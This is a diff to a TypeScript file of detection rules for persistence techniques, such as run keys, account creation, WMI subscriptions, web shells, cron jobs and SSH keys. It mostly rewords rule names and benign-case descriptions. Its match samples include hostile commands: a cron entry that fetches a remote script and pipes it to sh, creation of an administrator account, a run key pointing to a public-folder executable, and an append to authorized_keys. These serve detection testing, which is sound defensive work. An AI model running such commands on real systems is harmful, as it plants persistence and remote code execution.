@@ -1,6 +1,6 @@
-import type { Template } from './template.ts';
+import type { QueryTemplate } from './template.ts';
 
-export const persistence: readonly Template[] = [
+export const persistence: readonly QueryTemplate[] = [
   {
     id: 'run-key-command',
     techniques: ['T1547.001', 'T1547', 'T1112'],
@@ -10,7 +10,7 @@ export const persistence: readonly Template[] = [
     where: {
       command: String.raw`(reg(\.exe)?"?\s+add|new-itemproperty|set-itemproperty)\s.*\\currentversion\\(run|runonce|policies\\explorer\\run|winlogon)\b`,
     },
-    benign: 'installers of programs that start with the session; the value then points into Program Files',
+    benign: 'installers of programs that start with the session; the value then points to Program Files',
     match: ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\u.exe'],
     noMatch: ['reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
   },
@@ -25,7 +25,7 @@ export const persistence: readonly Template[] = [
       key: String.raw`\\currentversion\\(run|runonce|policies\\explorer\\run)\\|\\winlogon\\(shell|userinit)$`,
       value: String.raw`\\(temp|appdata|public|programdata|downloads)\\|powershell|wscript|mshta|rundll32`,
     },
-    benign: 'chat and sync programs that install themselves into the user folder; they are the same on many hosts',
+    benign: 'chat and sync programs that install themselves in the user folder; they are identical on many hosts',
     match: [
       {
         key: 'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
@@ -42,35 +42,35 @@ export const persistence: readonly Template[] = [
   {
     id: 'startup-folder',
     techniques: ['T1547.001', 'T1547'],
-    name: 'File put into a start-up folder',
+    name: 'File written to a startup folder',
     kind: 'file',
     severity: 'medium',
     where: { path: String.raw`\\start menu\\programs\\startup\\.*\.(exe|lnk|bat|cmd|js|vbs|hta|ps1|scr)$` },
-    benign: 'a link that the user made to a program of their own',
+    benign: 'a shortcut that the user created for a program',
     match: ['C:\\Users\\ada\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk'],
     noMatch: ['C:\\Users\\ada\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Notes.lnk'],
   },
   {
     id: 'local-account',
     techniques: ['T1136.001', 'T1136', 'T1098', 'T1078.003'],
-    name: 'Account made or put into the administrators from the command line',
+    name: 'Account created or added to administrators from the command line',
     kind: 'process',
     severity: 'high',
     where: {
       command: String.raw`\bnet1?(\.exe)?"?\s+(user\s.*/add|(localgroup|group)\s.*(admin|remote).*/add)|new-localuser|add-localgroupmember|\b(useradd|adduser)\s|usermod\s.*-a?g\s*(sudo|wheel|root)`,
     },
-    benign: 'imaging and configuration management, under its own service account',
+    benign: 'imaging and configuration management under its own service account',
     match: ['net user helper P4ss! /add', 'net localgroup administrators helper /add', 'useradd -m -s /bin/bash svc'],
     noMatch: ['net user ada', 'net localgroup administrators'],
   },
   {
     id: 'windows-account-created',
     techniques: ['T1136.001', 'T1136.002', 'T1136', 'T1098', 'T1098.007'],
-    name: 'Windows account made or added to a privileged group',
+    name: 'Windows account created or added to a privileged group',
     kind: 'windows',
     severity: 'medium',
     where: { event_id: String.raw`^(4720|4728|4732|4756)$` },
-    benign: 'the people and tools that administer accounts; anyone else is worth a call',
+    benign: 'the people and tools that administer accounts; ask anyone else',
     match: [
       { event_id: 4720, target: 'helper' },
       { event_id: 4732, target: 'Administrators' },
@@ -85,27 +85,27 @@ export const persistence: readonly Template[] = [
     category: 'first_occurrence',
     severity: 'medium',
     where: { event_id: String.raw`^(7045|4697|4698)$` },
-    benign: 'software updates, which install the same service on many hosts within a day',
+    benign: 'software updates that install the same service on many hosts within a day',
     match: [{ event_id: 7045, target: 'updsvc' }],
     noMatch: [{ event_id: 7036, target: 'updsvc' }],
   },
   {
     id: 'wmi-subscription',
     techniques: ['T1546.003', 'T1546'],
-    name: 'WMI event subscription made',
+    name: 'WMI event subscription created',
     kind: 'process',
     severity: 'high',
     where: {
       command: String.raw`(__eventfilter|commandlineeventconsumer|activescripteventconsumer|filtertoconsumerbinding)`,
     },
-    benign: 'hardware monitoring of some manufacturers; it is the same on all their machines',
+    benign: 'hardware monitoring by some manufacturers; it is identical on all their machines',
     match: ['powershell Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription'],
     noMatch: ['powershell Get-WmiObject Win32_BIOS'],
   },
   {
     id: 'web-shell',
     techniques: ['T1505.003', 'T1505', 'T1190', 'T1059'],
-    name: 'Web server starts a shell or looks around',
+    name: 'Web server starts a shell or a discovery command',
     kind: 'process',
     needs: ['parent'],
     severity: 'critical',
@@ -113,20 +113,20 @@ export const persistence: readonly Template[] = [
       parent: String.raw`(w3wp|httpd|apache2?|nginx|php-cgi|php-fpm[0-9.]*|tomcat[0-9]*|java|umworkerprocess|coldfusion)(\.exe)?$`,
       command: String.raw`\b(cmd|powershell|pwsh|whoami|net1?|nltest|certutil|bitsadmin|curl|wget|nc|id|uname)(\.exe)?\b|/bin/(ba|da)?sh\b`,
     },
-    benign: 'applications that call a tool by design; the same command then comes all day long',
+    benign: 'applications that call a tool by design; the same command then repeats all day',
     match: [{ parent: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', command: 'cmd.exe /c whoami' }],
     noMatch: [{ parent: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', command: 'csc.exe /noconfig @compile.cmdline' }],
   },
   {
     id: 'cron-or-unit',
     techniques: ['T1053.003', 'T1053', 'T1543.002', 'T1543', 'T1037', 'T1546.004'],
-    name: 'Cron job, unit or profile changed from a shell',
+    name: 'Cron job, systemd unit, or shell profile changed from a shell',
     kind: 'process',
     severity: 'medium',
     where: {
       command: String.raw`\|\s*crontab\s+-|crontab\s+/|>>?\s*/etc/(cron|profile|rc\.local|systemd)|(tee|cp|mv)\s.*/etc/(cron\S*|systemd/system|profile\.d)/|>>?\s*~?\S*/\.(bashrc|profile|zshrc|bash_profile)`,
     },
-    benign: 'packages and configuration management; they run as root from their own program',
+    benign: 'packages and configuration management, which run as root from their own program',
     match: ['sh -c "(crontab -l; echo \'* * * * * curl http://192.0.2.9/x|sh\') | crontab -"'],
     noMatch: ['crontab -l', 'systemctl status cron'],
   },
@@ -137,7 +137,7 @@ export const persistence: readonly Template[] = [
     kind: 'process',
     severity: 'high',
     where: { command: String.raw`(>>?|tee\s.*|cp\s.*|mv\s.*)\s*\S*\.ssh/authorized_keys` },
-    benign: 'first boot of cloud machines and configuration management',
+    benign: 'first boot of a cloud machine, and configuration management',
     match: ['sh -c "echo ssh-ed25519 AAAA >> /home/ada/.ssh/authorized_keys"'],
     noMatch: ['cat /home/ada/.ssh/known_hosts'],
   },
